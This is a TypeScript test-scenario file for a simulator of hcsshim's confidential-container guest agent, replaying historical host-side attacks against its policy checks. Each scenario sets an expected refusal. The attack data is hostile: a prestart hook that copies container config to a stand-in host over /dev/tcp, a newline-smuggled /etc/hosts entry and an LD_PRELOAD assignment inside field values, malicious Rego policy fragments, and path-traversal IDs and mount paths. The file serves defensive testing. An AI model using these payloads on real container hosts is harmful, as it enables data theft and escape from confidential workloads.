/**
 * Goal: every class in the hardening history of hcsshim (spec/policy.md e), as attacks on a
 * world running the standard group: OCI hooks, a concurrent mount swapping Create's rootfs,
 * hostname injection, fragment namespace shadowing and package-line smuggling, unanchored
 * patterns (user and env), path traversal in mount targets and container IDs, metadata desync
 * after a failed mount, unmounting in use, a poisoned UVM, extra devices, blockdev mounts, a
 * policy older than the rule, and the neighbours the same commits closed (mount options, plan9
 * share names, rootfs confusion, deleting a running container, unencrypted scratch, stack dumps).
 * Method: each attack states the fix; its relaxed run switches that Go-side check off
 * (AgentOptions.checks) or enforces an allow-all policy; where the fix is hcsshim's, a third run
 * against the v0.14.1-era agent shows whether it worked before the fix. Where the world has no
 * refusal to show (a desync, a dropped variable), the body judges the guest's recorded state.
 * Expectations use the GCS's and framework.rego's own error texts (spec c, d, e).
 */
import { assert } from '../../sim/kernel/assert.js';
import { UVM_CONTAINER_ID, gcsMessage, modifySettings } from '../../models/host/shim.js';
import { signFragment } from '../../models/policy/fragment-envelope.js';
import { createTestIssuer } from '../../models/policy/test-issuers.js';
import type { CheckName } from '../../models/guest/confidential-checks.js';
import { allowed, blocked, defineScenario, type Outcome, type Scenario } from '../dsl.js';
import { outcomeOfStep, type ScenarioContext } from '../context.js';
import { bodyOf, editCreate, editSettings, withBody } from '../host-actions.js';
import {
  TREES, addPolicyLines, editContainers, file, standardWorkload, STANDARD_CONTAINERS,
} from '../workloads.js';
import { addImage, runThroughInit } from './paper.js';

const ALLOW_ALL = [{ kind: 'allow-all-policy' }] as const;
const check = (name: CheckName) => ({ kind: 'agent-check', check: name }) as const;
const SPEC_E = 'spec/policy.md (e)';

function hooks(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const create = w.runTo('create web');
  w.act(editCreate(create, (c) => {
    c.OciSpecification['hooks'] = { prestart: [{ path: '/bin/sh',
      args: ['sh', '-c', 'cp /run/gcs/c/*/config.json /dev/tcp/evil/80'] }] };
  }), 'create web with a prestart hook');
  w.skip();
  runThroughInit(w, 'web');
  return w.outcome('runc runs the host\'s hook in the guest');
}

/** Create, then swap web's overlay for the pause image's before Create acts (2e97c9bb3). */
function concurrentCreate(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload(), checksOff: ['overlay_paths'] });
  const create = w.runTo('create web');
  const webId = w.ids['web']!;
  const combine = modifySettings('CombinedLayers', 'Remove', { ContainerID: webId,
    ContainerRootPath: `/run/gcs/c/${webId}/rootfs` });
  w.act(create, 'create web (the GCS checks it against web\'s overlay)');
  w.skip();
  w.act({ kind: 'bridge', message: { ...combine, id: 903 } }, 'remove web\'s overlay');
  w.act({ kind: 'bridge', message: { ...modifySettings('CombinedLayers', 'Add', {
    ContainerID: 'ef'.repeat(32), ContainerRootPath: `/run/gcs/c/${webId}/rootfs`,
    Layers: [{ Path: '/run/mounts/scsi/m0' }], ScratchPath: '' }), id: 904 } },
  'mount the pause image where web\'s rootfs was');
  w.runPlanned();   // Start web: the next non-ModifySettings request
  const web = w.world.state.guest!.containers[webId];
  const layers = web?.context.layers ?? [];
  const pause = w.world.state.guest!.devices['/run/mounts/scsi/m0'];
  const pauseRoot = pause?.kind === 'ro_verity' ? pause.table.root_digest : '';
  if (layers.length === 1 && layers[0] === pauseRoot) {
    return allowed('web was created on the pause image\'s rootfs');
  }
  assert(web !== undefined, 'web was created');
  return blocked('structure', 'Create bound web\'s rootfs when it was checked: the swap came '
    + 'after it', { check: 'sequential_requests' });
}

function hostname(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const create = w.runTo('create pause');
  w.act(editCreate(create, (c) => {
    c.OciSpecification.hostname = 'pod\n10.0.0.66 login.microsoftonline.com';
  }), 'create the sandbox with an /etc/hosts line in its hostname');
  w.skip();
  runThroughInit(w, 'pause');
  return w.outcome('the sandbox\'s /etc/hosts sends the login host to 10.0.0.66');
}

const FEED = 'contoso.azurecr.io/sidecar';
const contoso = createTestIssuer({ seed: 'scenarios-contoso' });

function fragmentWorkload() {
  return standardWorkload({ id: 'fragments', edit: (text) => addPolicyLines(text, [
    `fragments := ${JSON.stringify([{ issuer: contoso.did, feed: FEED, minimum_svn: '1',
      includes: ['containers'] }])}`]) });
}

/** A fragment by a trusted issuer whose Rego overrides the framework, then an unlisted layer. */
function fragmentAttack(ctx: ScenarioContext, regoText: string, what: string): Outcome {
  const w = ctx.world({ workload: fragmentWorkload() });
  w.runTo('add layer disk layer0');
  const fragment = Buffer.from(signFragment({ regoText, feed: FEED, issuer: contoso, svn: 2 }))
    .toString('base64');
  const loaded = w.act({ kind: 'bridge', message: { ...modifySettings('SecurityPolicyFragment',
    'Add', { Fragment: fragment, MediaType: '' }), id: 905 } }, `load a fragment: ${what}`, false);
  const evil = addImage(w, TREES.evil);
  w.act({ kind: 'add_disk', disk: 'evil', spec: { kind: 'layer', image: evil } }, 'evil disk');
  w.act({ kind: 'attach', lun: 30, disk: 'evil' }, 'attach it');
  w.act({ kind: 'bridge', message: { ...modifySettings('MappedVirtualDisk', 'Add', {
    MountPath: '/run/mounts/scsi/m30', Lun: 30, ReadOnly: true, Options: ['ro'] }), id: 906 } },
  'mount the host\'s image', false);
  // The goal is the unlisted layer: a fragment the GCS refused stopped it only if it is refused.
  const mounted = w.steps[w.steps.length - 1]!.result;
  if (mounted.outcome === 'ok') return allowed('the host\'s image is mounted as a layer');
  return loaded.outcome === 'refused' ? outcomeOfStep(loaded) : outcomeOfStep(mounted);
}

const OVERRIDE = 'mount_device := {"allowed": true}\nload_fragment := {"allowed": true, '
  + '"add_module": true}\n';

function unanchoredUser(ctx: ScenarioContext): Outcome {
  const admin = { ...TREES.base, '/etc/passwd': file('root:x:0:0:root:/root:/bin/sh\n'
    + 'web:x:1000:1000::/srv:/bin/sh\nwebadmin:x:1001:0::/root:/bin/sh\n'),
  '/etc/group': file('root:x:0:\nweb:x:1000:\n') };
  const containers = STANDARD_CONTAINERS.map((c) => (c.name === 'web'
    ? { ...c, layers: [admin, TREES.lib, TREES.app] } : c));
  const w = ctx.world({ workload: { kind: 'generated', id: 'user-re2', containers,
    edit: (text) => editContainers(text, (list) => {
      const web = list.find((c) => c.name === 'web')!;
      web['user'] = { user_idname: { pattern: 'web', strategy: 're2' },
        group_idnames: [{ pattern: '', strategy: 'any' }], umask: '0022' };
    }) } });
  const create = w.runTo('create web');
  w.act(editCreate(create, (c) => {
    c.OciSpecification.process.user = { uid: 1001, gid: 0, username: 'webadmin' };
  }), 'create web as webadmin (uid 1001, group root)');
  w.skip();
  runThroughInit(w, 'web');
  return w.outcome('web runs as webadmin: the pattern "web" matched inside "webadmin"');
}

function unanchoredEnv(ctx: ScenarioContext): Outcome {
  const containers = STANDARD_CONTAINERS.map((c) => (c.name === 'web' ? { ...c,
    extraEnvRules: [{ pattern: 'LOG_LEVEL=(info|debug)', strategy: 're2' as const,
      required: false }] } : c));
  const w = ctx.world({ workload: { kind: 'generated', id: 'env-re2', containers,
    flags: { allowEnvironmentVariableDropping: false } } });
  const create = w.runTo('create web');
  w.act(editCreate(create, (c) => {
    c.OciSpecification.process.env.push('LOG_LEVEL=debug\nLD_PRELOAD=/tmp/x.so');
  }), 'LOG_LEVEL with a second assignment after the allowed value');
  w.skip();
  runThroughInit(w, 'web');
  return w.outcome('web runs with a LOG_LEVEL the pattern matched only in part');
}

function mountTargetTraversal(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const mount = w.runTo('mount layer');
  w.act(editSettings(mount, (s) => { s['MountPath'] = '/run/mounts/scsi/m0/../../../../etc'; }),
    'mount the pause layer at /run/mounts/scsi/m0/../../../../etc');
  return w.outcome('a layer is mounted over the UVM\'s /etc');
}

function containerIdTraversal(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const combine = w.runTo('combine layers for side');
  const createSide = w.runTo('create side');
  const id = '../../../../run/evil';
  const root = `/run/gcs/c/${id}/rootfs`;
  const sandbox = w.ids['pause']!;
  w.act(editSettings(combine, (s) => { s['ContainerID'] = id; s['ContainerRootPath'] = root;
    s['ScratchPath'] = ''; }), 'an overlay for the container ID ../../../../run/evil');
  const body = bodyOf(editCreate(createSide, (c) => {
    c.OciBundlePath = `/run/gcs/c/${id}`; c.OciSpecification.root.path = root;
    c.ScratchDirPath = `/run/gcs/c/${sandbox}/scratch/${id}`;
  }));
  body['ContainerId'] = id;
  w.act(withBody(createSide, body), 'create it: its bundle lands outside /run/gcs/c');
  return w.outcome('a container with a traversing ID was created');
}

function failedMountDesync(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const mount = w.runTo('mount layer');
  w.act({ kind: 'fail_next', what: 'mount' }, 'the next mount fails after the policy allowed it');
  w.act(mount, 'mount the pause layer (fails half-way)', false);
  const guest = w.world.state.guest!;
  const target = '/run/mounts/scsi/m0';
  const policySays = guest.metadata.devices[target];
  const reality = guest.devices[target];
  if (policySays !== undefined && reality === undefined) {
    return allowed('the policy metadata says the pause layer is mounted at m0; nothing is');
  }
  assert(policySays === undefined && reality === undefined, 'nothing mounted either way');
  return blocked('structure', 'the policy metadata was rolled back with the failed mount',
    { check: 'metadata_rollback' });
}

function unmountOverlayInUse(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  w.runTo('exec probe');   // the group runs
  const remove = w.find('remove the overlay of web');
  w.act(remove, 'remove web\'s overlay while web runs');
  return w.outcome('web runs on a rootfs that is no longer mounted');
}

function poisoned(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const unmount = w.runTo('unmount layer');
  w.act({ kind: 'fail_next', what: 'unmount' }, 'the next unmount fails half-way');
  w.act(unmount, 'unmount the pause layer (fails: the UVM is inconsistent)', false);
  w.skip();
  w.act({ kind: 'attach', lun: 20, disk: 'layer0' }, 'the same disk at LUN 20');
  w.act(editSettings(unmount, (s) => { s['MountPath'] = '/run/mounts/scsi/m20'; s['Lun'] = 20; },
    'Add'), 'mount it again elsewhere');
  return w.outcome('the inconsistent UVM keeps mounting');
}

function deleteRunning(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  w.runTo('exec probe');
  const remove = w.find('delete the state of web');
  w.act(remove, 'delete web\'s state while web runs', false);
  const webId = w.ids['web']!;
  const guest = w.world.state.guest!;
  const web = guest.containers[webId];
  const init = web === undefined ? undefined : guest.processes[String(web.context.initPid)];
  if (web?.value === 'deleted' && init?.status === 'running') {
    return allowed('web is forgotten while its init process still runs (an orphan)');
  }
  return outcomeOfStep(w.steps[w.steps.length - 1]!.result);
}

function extraDevices(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const create = w.runTo('create web');
  w.act(editCreate(create, (c) => {
    c.OciSpecification.linux['devices'] = [{ path: '/dev/sda', type: 'b', major: 8, minor: 0,
      fileMode: 0o660, uid: 0, gid: 0 }];
  }), 'create web with the UVM\'s /dev/sda');
  w.skip();
  runThroughInit(w, 'web');
  return w.outcome('web runs with a raw block device of the UVM');
}

function blockdev(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const mount = w.runTo('mount layer');
  const result = w.act(editSettings(mount, (s) => { s['BlockDev'] = true; }),
    'map the layer disk as a raw block device', false);
  if (result.decision?.allowed === true) {
    return allowed('the policy let a raw block device through (no dm-verity)');
  }
  return outcomeOfStep(result);
}

function olderPolicy(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  w.runTo('add the sandbox scratch disk');
  w.runPlanned();
  const attach = w.peek().action;
  assert(attach.kind === 'attach', 'the scratch attach');
  w.act({ ...attach, lun: 21 }, 'the scratch disk at LUN 21 as well');
  w.act({ kind: 'bridge', message: { ...modifySettings('MappedVirtualDisk', 'Add', {
    MountPath: '/run/mounts/scsi/m21', Lun: 21, Controller: 0, Encrypted: true,
    EnsureFilesystem: true, Filesystem: 'xfs' }), id: 907 } },
  'mount a writable disk where read-only layers go (api 0.10.0 has no rw_mount_device)');
  return w.outcome('a writable device at a layer mount path');
}

function mountOptions(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const mount = w.runTo('mount layer');
  w.act(editSettings(mount, (s) => { s['Options'] = ['ro', 'exec', 'dev', 'suid']; }),
    'mount the pause layer with dev and suid');
  return w.outcome('a layer mounted with device nodes and setuid honoured');
}

function shareName(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  w.runTo('exec probe');
  w.act({ kind: 'bridge', message: { ...modifySettings('MappedDirectory', 'Add', {
    MountPath: `/run/gcs/c/${w.ids['web']!}/mounts/m1`, ShareName: '../../host-root',
    Port: 564, ReadOnly: false }), id: 908 } }, 'a plan9 share named ../../host-root');
  return w.outcome('the host\'s root directory is shared into web');
}

function rootfsConfusion(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const create = w.runTo('create side');
  w.act(editCreate(create, (c) => {
    c.OciSpecification.root.path = `/run/gcs/c/${w.ids['web']!}/rootfs`;
  }), 'create side over web\'s rootfs');
  w.skip();
  runThroughInit(w, 'side');
  const side = w.world.state.guest!.containers[w.ids['side']!];
  return w.outcome(`side runs on web's image (layers ${side?.context.layers?.length ?? 0})`);
}

function unencryptedScratch(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  const mount = w.runTo('mount the encrypted scratch');
  w.act(editSettings(mount, (s) => { delete s['Encrypted']; }), 'mount the scratch unencrypted');
  w.skip();
  runThroughInit(w, 'pause');
  return w.outcome('the sandbox\'s scratch is written in the clear');
}

function dumpStacks(ctx: ScenarioContext): Outcome {
  const w = ctx.world({ workload: standardWorkload() });
  w.runTo('exec probe');
  w.act({ kind: 'bridge', message: gcsMessage('DumpStacks', UVM_CONTAINER_ID, {}, 909) },
    'dump the GCS\'s stacks');
  return w.outcome('the GCS\'s stacks (with request contents) go to the host');
}

/**
 * No v0.14.1 run: the fragment loader is modelled as it is today in both dialects (its first-line
 * and namespace checks are not dialect rows), so an "old agent" run would repeat the main one.
 */
function fragmentScenario(name: string, rego: string, summary: string, reason: string,
  fix: string): Scenario {
  return defineScenario({
    name, group: 'hardening', kind: 'attack', tags: ['fragments'],
    threat: { summary, references: [`hcsshim ${fix}`, SPEC_E] },
    expected: { kind: 'blocked', layer: 'policy', rule: 'load_fragment', reason },
    defence: { summary: 'the fragment\'s first line must be one non-reserved package; issuer '
      + 'and feed are checked before the module loads', relax: ALLOW_ALL },
    body: (ctx) => fragmentAttack(ctx, rego, summary),
  });
}

type AttackSpec = Readonly<{ name: string; tags: readonly string[]; summary: string;
  refs: readonly string[]; expected: Scenario['expected']; defence: string;
  relax: NonNullable<Scenario['defence']>['relax']; fix?: string;
  historical?: Scenario['expected']; body: (ctx: ScenarioContext) => Outcome }>;

function attack(spec: AttackSpec): Scenario {
  return defineScenario({
    name: spec.name, group: 'hardening', kind: 'attack', tags: spec.tags,
    threat: { summary: spec.summary, references: spec.refs },
    expected: spec.expected, defence: { summary: spec.defence, relax: spec.relax },
    ...(spec.fix === undefined ? {} : { history: { fix: spec.fix,
      expected: spec.historical ?? { kind: 'allowed' } } }),
    body: spec.body,
  });
}

export const HARDENING_SCENARIOS: readonly Scenario[] = [
  attack({ name: 'oci-hooks', tags: ['oci'], summary: 'the host puts a prestart hook in web\'s '
    + 'OCI spec: runc would run it in the guest', refs: ['hcsshim e118801ff', SPEC_E],
  expected: { kind: 'blocked', layer: 'structure', check: 'oci_hooks_nil',
    reason: 'Hooks must be nil' },
  defence: 'the GCS refuses an OCI spec with hooks', relax: [check('oci_hooks_nil')],
  fix: 'e118801ff', body: hooks }),
  attack({ name: 'concurrent-create', tags: ['ordering'], summary: 'the host swaps web\'s '
    + 'overlay for the pause image between Create\'s policy check and its act (overlay path '
    + 'checks assumed absent, to isolate the defence)', refs: ['hcsshim 2e97c9bb3', SPEC_E],
  expected: { kind: 'blocked', layer: 'structure', check: 'sequential_requests',
    reason: 'Create bound web\'s rootfs' },
  defence: 'confidential GCSs handle one request at a time',
  relax: [check('sequential_requests')], fix: '2e97c9bb3', body: concurrentCreate }),
  attack({ name: 'hostname-injection', tags: ['oci'], summary: 'the host writes a line into the '
    + 'sandbox\'s /etc/hosts through the OCI hostname', refs: ['hcsshim 9c0a084a2', SPEC_E],
  expected: { kind: 'blocked', layer: 'structure', check: 'hostname_charset',
    reason: 'characters outside' },
  defence: 'the hostname is [a-zA-Z0-9_.-]', relax: [check('hostname_charset')],
  fix: '9c0a084a2', body: hostname }),
  fragmentScenario('fragment-namespace-shadowing', `package framework\n\n${OVERRIDE}`,
    'a fragment by a trusted issuer declares package framework and overrides mount_device',
    'reserved', '5869bd017'),
  fragmentScenario('fragment-package-smuggling',
    `package sidecar\n\n# the second package line\npackage framework\n${OVERRIDE}`,
    'a fragment smuggles a second package line (framework) past its first line',
    'second package', '5869bd017'),
  attack({ name: 'unanchored-user-pattern', tags: ['patterns'], summary: 'the policy names '
    + 'user re2 "web"; the host runs web as webadmin (group root), which contains "web"',
  refs: ['hcsshim df52d6665', SPEC_E],
  expected: { kind: 'blocked', layer: 'policy', rule: 'create_container',
    reason: 'invalid user' },
  defence: 'user patterns are anchored (^web$)', relax: ALLOW_ALL, fix: 'df52d6665',
  body: unanchoredUser }),
  attack({ name: 'unanchored-env-pattern', tags: ['patterns', 'env'], summary: 'the env rule '
    + 'LOG_LEVEL=(info|debug) is matched in part by a value that goes on',
  refs: ['hcsshim 9b2e94f54', SPEC_E],
  expected: { kind: 'blocked', layer: 'policy', rule: 'create_container',
    reason: 'invalid env list' },
  defence: 'env patterns are anchored (fixed before v0.14.1)', relax: ALLOW_ALL,
  fix: '9b2e94f54', historical: { kind: 'blocked', layer: 'policy', rule: 'create_container',
    reason: 'invalid env list' }, body: unanchoredEnv }),
  attack({ name: 'mount-target-traversal', tags: ['paths'], summary: 'a layer mounted at '
    + '/run/mounts/scsi/m0/../../../../etc', refs: ['hcsshim df52d6665', SPEC_E],
  expected: { kind: 'blocked', layer: 'policy', rule: 'mount_device',
    reason: 'mount target' },
  defence: 'mount_device checks the target against ^/run/mounts/scsi/m[0-9]+$',
  relax: ALLOW_ALL, fix: 'df52d6665', body: mountTargetTraversal }),
  attack({ name: 'container-id-traversal', tags: ['paths'], summary: 'a container ID '
    + '../../../../run/evil puts the bundle outside /run/gcs/c', refs: ['hcsshim df52d6665',
    SPEC_E],
  expected: { kind: 'blocked', layer: 'structure', check: 'container_id_format',
    reason: 'must match' },
  defence: 'container IDs are 64 hex characters', relax: [check('container_id_format')],
  fix: 'df52d6665', body: containerIdTraversal }),
  attack({ name: 'failed-mount-desync', tags: ['metadata'], summary: 'a mount the policy '
    + 'allowed fails; the policy metadata keeps the device that is not there',
  refs: ['hcsshim 3f1758f95', SPEC_E],
  expected: { kind: 'blocked', layer: 'structure', check: 'metadata_rollback',
    reason: 'rolled back' },
  defence: 'a failed mount rolls the policy metadata back', relax: [check('metadata_rollback')],
  fix: '3f1758f95', body: failedMountDesync }),
  attack({ name: 'unmount-overlay-in-use', tags: ['metadata'], summary: 'the host removes '
    + 'web\'s overlay while web runs', refs: ['hcsshim 3f1758f95', SPEC_E],
  expected: { kind: 'blocked', layer: 'state', check: 'unmount_in_use', reason: 'in use' },
  defence: 'an overlay a running container uses is not unmounted',
  relax: [check('unmount_in_use')], fix: '3f1758f95', body: unmountOverlayInUse }),
  attack({ name: 'mount-after-failed-unmount', tags: ['metadata'], summary: 'an unmount fails '
    + 'half-way and the host keeps mounting in the inconsistent UVM',
  refs: ['hcsshim 3f1758f95', SPEC_E],
  expected: { kind: 'blocked', layer: 'state', reason: 'disabled in this UVM' },
  defence: 'a failed unmount poisons the UVM', relax: [check('unmount_poisons')],
  fix: '3f1758f95', body: poisoned }),
  attack({ name: 'delete-running-container', tags: ['metadata'], summary: 'the host deletes '
    + 'web\'s state while web runs, leaving an orphan process', refs: ['hcsshim 3f1758f95',
    SPEC_E],
  expected: { kind: 'blocked', layer: 'structure', check: 'delete_requires_stopped',
    reason: 'running container' },
  defence: 'DeleteContainerState needs a stopped container',
  relax: [check('delete_requires_stopped')], fix: '3f1758f95', body: deleteRunning }),
  attack({ name: 'extra-devices', tags: ['oci'], summary: 'the host gives web the UVM\'s '
    + '/dev/sda through the OCI spec', refs: ['hcsshim f13aaca71', SPEC_E],
  expected: { kind: 'blocked', layer: 'structure', check: 'no_extra_devices',
    reason: 'extra device nodes' },
  defence: 'the GCS refuses Linux devices in the spec (and HEAD\'s framework denies them)',
  relax: [check('no_extra_devices'), ...ALLOW_ALL], fix: 'f13aaca71', body: extraDevices }),
  attack({ name: 'blockdev-mount', tags: ['layers'], summary: 'the host maps a layer disk as a '
    + 'raw block device, past dm-verity', refs: ['hcsshim a84084d0e', 'hcsshim PR #2757',
    SPEC_E],
  expected: { kind: 'blocked', layer: 'policy', rule: 'mount_blockdev',
    reason: 'blockdev mounts are not supported' },
  defence: 'mount_blockdev is denied (also by default for older policies)', relax: ALLOW_ALL,
  body: blockdev }),
  attack({ name: 'policy-older-than-rule', tags: ['versions'], summary: 'against a policy '
    + 'written for api 0.10.0 (before rw_mount_device), the host mounts a writable disk at a '
    + 'layer mount path', refs: ['hcsshim df52d6665', 'spec/policy.md (c) Versioning', SPEC_E],
  expected: { kind: 'blocked', layer: 'policy', rule: 'rw_mount_device',
    reason: 'mountpoint invalid' },
  defence: 'a rule newer than the policy falls back to the framework\'s (api.rego defaults)',
  relax: ALLOW_ALL, fix: 'df52d6665', body: olderPolicy }),
  attack({ name: 'scsi-mount-options', tags: ['layers'], summary: 'the host mounts a layer '
    + 'with dev and suid', refs: ['hcsshim df52d6665', SPEC_E],
  expected: { kind: 'blocked', layer: 'structure', check: 'scsi_mount_options',
    reason: 'expected ["ro"]' },
  defence: 'read-only SCSI mounts take exactly ["ro"]', relax: [check('scsi_mount_options')],
  fix: 'df52d6665', body: mountOptions }),
  attack({ name: 'plan9-share-name', tags: ['plan9', 'paths'], summary: 'a plan9 share named '
    + '../../host-root', refs: ['hcsshim df52d6665', SPEC_E],
  expected: { kind: 'blocked', layer: 'structure', check: 'share_name',
    reason: 'invalid plan9 share name' },
  defence: 'share names are [a-zA-Z0-9_.-]+ and not . or ..', relax: [check('share_name')],
  fix: 'df52d6665', body: shareName }),
  attack({ name: 'rootfs-confusion', tags: ['paths'], summary: 'side is created over web\'s '
    + 'rootfs: the policy judges side, the container gets web\'s image',
  refs: ['hcsshim df52d6665', SPEC_E],
  expected: { kind: 'blocked', layer: 'structure', check: 'rootfs_path',
    reason: 'must equal expected' },
  defence: 'Root.Path is /run/gcs/c/<id>/rootfs, binding the container to its own overlay',
  relax: [check('rootfs_path')], fix: 'df52d6665', body: rootfsConfusion }),
  attack({ name: 'unencrypted-scratch', tags: ['scratch'], summary: 'the host mounts the '
    + 'sandbox\'s scratch without dm-crypt', refs: ['Parma paper, guarantees', SPEC_E],
  expected: { kind: 'blocked', layer: 'policy', rule: 'rw_mount_device',
    reason: 'unencrypted scratch not allowed' },
  defence: 'rw_mount_device and scratch_mount need encryption unless the policy allows it',
  relax: ALLOW_ALL, body: unencryptedScratch }),
  attack({ name: 'dump-stacks', tags: ['debug'], summary: 'the host asks the GCS for its '
    + 'stack dump', refs: ['spec/policy.md (d) DumpStacks'],
  expected: { kind: 'blocked', layer: 'policy', rule: 'dump_stacks', reason: 'denied' },
  defence: 'dump_stacks follows allow_dump_stacks (false)', relax: ALLOW_ALL,
  body: dumpStacks }),
];
